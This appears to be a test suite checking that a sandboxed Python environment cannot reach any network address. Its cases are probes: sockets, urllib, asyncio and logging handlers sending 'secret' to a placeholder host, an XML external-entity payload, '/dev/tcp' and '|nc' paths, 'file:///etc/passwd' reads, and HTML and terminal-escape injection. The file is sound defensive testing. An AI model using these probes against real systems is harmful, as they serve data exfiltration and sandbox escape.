# promise: a program reaches no address, neither in the reader's network nor the server that its page came from

## urllib_request
#: raises urllib.error.URLError
import urllib.request
print("REACHED", urllib.request.urlopen("{server}").read())

## urllib_with_an_opener_of_its_own
#: raises urllib.error.URLError
from urllib.request import HTTPHandler, OpenerDirector
opener = OpenerDirector()
opener.add_handler(HTTPHandler())
print("REACHED", opener.open("{server}").read())

## urlretrieve_to_a_file
#: raises urllib.error.URLError
import urllib.request
urllib.request.urlretrieve("{server}", "page.html")
print("REACHED")

## http_client
#: raises OSError
import http.client
connection = http.client.HTTPConnection("{host}", {port}, timeout=1)
connection.request("GET", "/")
print("REACHED", connection.getresponse().read())

## https_client
#: status exception
import http.client
http.client.HTTPSConnection("{host}", {port}).request("GET", "/")
print("REACHED")

## socket_connect
#: raises OSError
import socket
connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
connection.connect(("{host}", {port}))
print("REACHED")

## socket_create_connection
#: raises OSError
import socket
socket.create_connection(("{host}", {port}), timeout=1)
print("REACHED")

## socket_datagram
#: raises OSError
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("{host}", {port}))
print("REACHED")

## socket_listen
#: raises OSError
import socket
server = socket.create_server(("", 0))
print("REACHED", server.getsockname())

## socket_behind_its_own_module
#: status exception
import _socket
print("REACHED", _socket.socket(2, 1).connect(("{host}", {port})))

## socket_from_a_descriptor
#: status exception
import socket
for descriptor in range(16):
    socket.socket(fileno=descriptor).send(b"GET / HTTP/1.0\r\n\r\n")
    print("REACHED", descriptor)

## socketpair
#: status exception
import socket
print("REACHED", socket.socketpair())

## names_are_not_looked_up
#: raises OSError
import socket
print("REACHED", socket.getaddrinfo("secret.example.com", 80))

## host_names_are_not_looked_up
#: raises OSError
import socket
print("REACHED", socket.gethostbyname("secret.example.com"))

## asyncio_connection
#: status exception
import asyncio
async def main():
    await asyncio.open_connection("{host}", {port})
    print("REACHED")
asyncio.run(main())

## asyncio_server
#: status exception
import asyncio
async def main():
    await asyncio.start_server(print, "127.0.0.1", 0)
    print("REACHED")
asyncio.run(main())

## ftplib
#: raises OSError
import ftplib
ftplib.FTP().connect("{host}", {port})
print("REACHED")

## smtplib
#: raises OSError
import smtplib
smtplib.SMTP("{host}", {port})
print("REACHED")

## xmlrpc
#: raises OSError
import xmlrpc.client
xmlrpc.client.ServerProxy("{server}").secret()
print("REACHED")

## xml_with_an_external_entity
#: prints ended
import xml.etree.ElementTree as tree
text = '<!DOCTYPE a [<!ENTITY x SYSTEM "{server}">]><a>&x;</a>'
try:
    print(tree.fromstring(text).text)
except Exception as error:
    print(type(error).__name__)
print("ended")

## sax_with_an_external_document_type
#: prints ended
import io, xml.sax
parser = xml.sax.make_parser()
try:
    parser.setFeature(xml.sax.handler.feature_external_ges, True)
    parser.parse(io.StringIO('<!DOCTYPE a SYSTEM "{server}"><a/>'))
except Exception as error:
    print(type(error).__name__)
print("ended")

## webbrowser
#: prints False
import webbrowser
print(webbrowser.open("{server}"))

## antigravity_opens_a_page
#: prints ended
import antigravity
print("ended")

## logging_to_a_server
#: prints ended
import logging, logging.handlers
logger = logging.getLogger()
for handler in (
    logging.handlers.HTTPHandler("{host}:{port}", "/"),
    logging.handlers.SocketHandler("{host}", {port}),
    logging.handlers.DatagramHandler("{host}", {port}),
):
    logger.addHandler(handler)
logging.raiseExceptions = False
logger.error("secret")
print("ended")

## import_from_an_address
#: raises ModuleNotFoundError
import sys
sys.path.insert(0, "{server}")
import secret

## open_of_an_address
#: raises FileNotFoundError
print("REACHED", open("{server}").read())

## pip
#: status exception
import runpy
runpy.run_module("pip", run_name="__main__")

## ensurepip
#: status exception
import ensurepip
ensurepip.bootstrap()
print("REACHED")

## html_is_text
#: prints <img
print('<img src="{server}"><script src="{server}"></script><link rel="stylesheet" href="{server}">')

## html_in_an_error
#: raises <img src="{server}">
raise type('<img src="{server}">', (Exception,), {})('<script src="{server}"></script>')

## terminal_links_and_titles_are_dropped
#: status ok
print('\x1b]8;;{server}\x1b\\click\x1b]8;;\x1b\\ \x1b]0;<img src={server}>\x07 \x1b]1337;File=inline=1:{server}\x07')

## socket_of_every_family
#: prints ended
import socket
for family in ("AF_INET", "AF_INET6", "AF_UNIX", "AF_PACKET", "AF_NETLINK", "AF_BLUETOOTH", "AF_VSOCK", "AF_CAN"):
    for kind in ("SOCK_STREAM", "SOCK_DGRAM", "SOCK_RAW", "SOCK_SEQPACKET"):
        try:
            one = socket.socket(getattr(socket, family), getattr(socket, kind))
            one.connect(("{host}", {port}))
            print("REACHED", family, kind)
        except (AttributeError, OSError):
            pass
print("ended")

## names_of_this_machine
#: prints ended
import socket
for name in ("localhost", "127.1", "0", "2130706433", "0x7f000001", "::1", "::ffff:127.0.0.1", "[::1]", "127.0.0.1\0.example.com", "", "*"):
    for action in (lambda: socket.create_connection((name, {port}), timeout=1), lambda: socket.getaddrinfo(name, {port}),
                   lambda: socket.gethostbyname_ex(name), lambda: socket.gethostbyaddr(name), lambda: socket.getfqdn(name)):
        try:
            found = action()
            if isinstance(found, socket.socket):
                print("REACHED", name)
        except (OSError, ValueError, AttributeError):
            pass
print("ended")

## tls
#: status exception
import socket, ssl
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
wrapped = context.wrap_socket(socket.socket(), server_hostname="{host}")
wrapped.connect(("{host}", {port}))
print("REACHED")

## certificate_of_a_server
#: status exception
import ssl
print("REACHED", ssl.get_server_certificate(("{host}", {port})))

## server_of_every_kind
#: prints ended
def http():
    import http.server
    return http.server.ThreadingHTTPServer(("", 0), http.server.SimpleHTTPRequestHandler)
def sockets():
    import socketserver
    return socketserver.UDPServer(("", 0), socketserver.BaseRequestHandler)
def wsgi():
    import wsgiref.simple_server
    return wsgiref.simple_server.make_server("", 0, None)
def calls():
    import xmlrpc.server
    return xmlrpc.server.SimpleXMLRPCServer(("", 0))
def settings():
    import logging.config
    thread = logging.config.listen(0)
    thread.start()
    thread.ready.wait(1)
    raise OSError
def documents():
    import pydoc
    pydoc._start_server(lambda *arguments: "", "localhost", 0).serving or (_ for _ in ()).throw(OSError)
for serve in (http, sockets, wsgi, calls, settings, documents):
    try:
        serve()
        print("REACHED", serve.__name__)
    except (OSError, ImportError, AttributeError, RuntimeError):
        pass
print("ended")

## mail_that_is_fetched
#: prints ended
import imaplib, poplib
for fetch in (imaplib.IMAP4, poplib.POP3):
    try:
        fetch("{host}", {port}, timeout=1)
        print("REACHED", fetch)
    except OSError:
        pass
print("ended")

## proxy_from_the_environment
#: prints ended
import os, urllib.request
for name in ("http_proxy", "https_proxy", "ftp_proxy", "all_proxy", "HTTP_PROXY"):
    os.environ[name] = "{server}"
for address in ("http://secret.example.com/", "https://secret.example.com/", "ftp://secret.example.com/"):
    try:
        urllib.request.urlopen(address, timeout=1)
        print("REACHED", address)
    except (OSError, ValueError):
        pass
print("ended")

## addresses_of_other_kinds
#: prints ended
import urllib.request
for address in ("ftp://{host}:{port}/x", "file:///etc/passwd", "file://{host}/etc/passwd", "local_file:///etc/passwd",
                "gopher://{host}:{port}/", "javascript:fetch('{server}')", "blob:{server}x", "about:blank", "chrome://version",
                    "//{host}:{port}/"):
    try:
        print("REACHED", address, urllib.request.urlopen(address, timeout=1).read())
    except (OSError, ValueError):
        pass
print("ended")

## rules_for_robots
#: status exception
import urllib.robotparser
parser = urllib.robotparser.RobotFileParser("{server}robots.txt")
parser.read()
print("REACHED")

## connection_that_the_program_makes_itself
#: raises OSError
import http.client, socket
class Connection(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.SocketType(2, 1, 0)
        self.sock.connect_ex(("{host}", {port}))
        self.sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
Connection("{host}", {port}).request("GET", "/")
print("REACHED")

## loop_of_asyncio_itself
#: prints ended
import asyncio, socket
async def main():
    loop = asyncio.get_running_loop()
    for action in (lambda: loop.getaddrinfo("{host}", {port}), lambda: loop.create_connection(asyncio.Protocol, "{host}", {port}),
                   lambda: loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=("{host}", {port})),
                   lambda: loop.create_unix_connection(asyncio.Protocol, "/tmp/x"),
                       lambda: loop.sock_connect(socket.socket(), ("{host}", {port})),
                   lambda: loop.connect_read_pipe(asyncio.Protocol, open("main.py")), lambda: loop.create_server(asyncio.Protocol, "", 0)):
        try:
            found = await asyncio.wait_for(action(), 0.1)
            print("REACHED", found)
        except Exception:
            pass
asyncio.run(main())
print("ended")

## multiplexers
#: prints ended
import select, selectors, socket
for name in ("select", "poll", "epoll", "kqueue", "devpoll"):
    try:
        getattr(select, name)([0, 1, 2, 3], [0, 1, 2, 3], [], 0)
    except (AttributeError, TypeError, OSError, ValueError):
        pass
for name in ("SelectSelector", "PollSelector", "EpollSelector", "DefaultSelector"):
    try:
        selector = getattr(selectors, name)()
        selector.register(5, selectors.EVENT_WRITE)
        if selector.select(0):
            print("REACHED", name)
    except (AttributeError, TypeError, OSError, ValueError, KeyError):
        pass
print("ended")

## device_that_is_a_connection
#: prints ended
import os
for name in ("/dev/tcp/{host}/{port}", "/dev/udp/{host}/{port}", "\\\\{host}@{port}\\share\\x", "//{host}/share", "/net/{host}",
    "|nc {host} {port}", "/dev/ptmx"):
    for flags in (os.O_RDONLY, os.O_RDWR, os.O_WRONLY):
        try:
            os.write(os.open(name, flags), b"GET / HTTP/1.0\r\n\r\n")
            print("REACHED", name)
        except OSError:
            pass
print("ended")

## documents_from_an_address
#: prints ended
import xml.dom.minidom, xml.dom.pulldom, xml.etree.ElementInclude, xml.etree.ElementTree, xml.sax, xml.sax.saxutils
for read in (xml.dom.minidom.parse, lambda address: list(xml.dom.pulldom.parse(address)), xml.etree.ElementTree.parse,
             lambda address: xml.etree.ElementInclude.default_loader(address, "xml"),
                 lambda address: xml.sax.parse(address, xml.sax.ContentHandler()),
             lambda address: xml.sax.saxutils.prepare_input_source(address).getByteStream().read()):
    try:
        print("REACHED", read("{server}"))
    except Exception:
        pass
print("ended")

## code_from_an_address
#: prints ended
import importlib.util, linecache, pkgutil, runpy, sys, zipimport
for read in (runpy.run_path, zipimport.zipimporter, lambda address: pkgutil.get_data("os", address),
             lambda address: importlib.util.spec_from_file_location("x", address).loader.load_module(),
             lambda address: exec(open(address).read())):
    try:
        if read("{server}") is not None:
            print("REACHED", read)
    except Exception:
        pass
print("REACHED" if linecache.getlines("{server}") else "ended")

## pictures_from_an_address
#: prints ended
import turtle
def plot():
    import matplotlib.pyplot as plt
    return plt.imread("{server}")
for read in (lambda: turtle.bgpic("{server}"), lambda: turtle.addshape("{server}"), lambda: turtle.Turtle(shape="{server}"), plot):
    try:
        if read() is not None:
            print("REACHED", read)
    except Exception:
        pass
print("ended")

## letters_and_records_that_are_sent
#: prints ended
import logging, logging.handlers
logging.raiseExceptions = False
for make in (lambda: logging.handlers.SMTPHandler(("{host}", {port}), "a@example.com", "b@example.com", "secret"),
             lambda: logging.handlers.SysLogHandler(("{host}", {port})), lambda: logging.handlers.SysLogHandler("/dev/log"),
             lambda: logging.handlers.NTEventLogHandler("x")):
    try:
        make().emit(logging.LogRecord("x", 50, "x", 1, "secret", (), None))
    except Exception:
        pass
print("ended")

## clients_of_other_processes
#: status exception
import multiprocessing.connection
multiprocessing.connection.Client(("{host}", {port}), authkey=b"x")
print("REACHED")

## errors_that_name_an_address
#: raises ConnectionRefusedError
import sys
error = OSError(111, "refused", "{server}")
error.add_note('<link rel="preconnect" href="{server}"> {server}')
error.__traceback__ = None
raise error
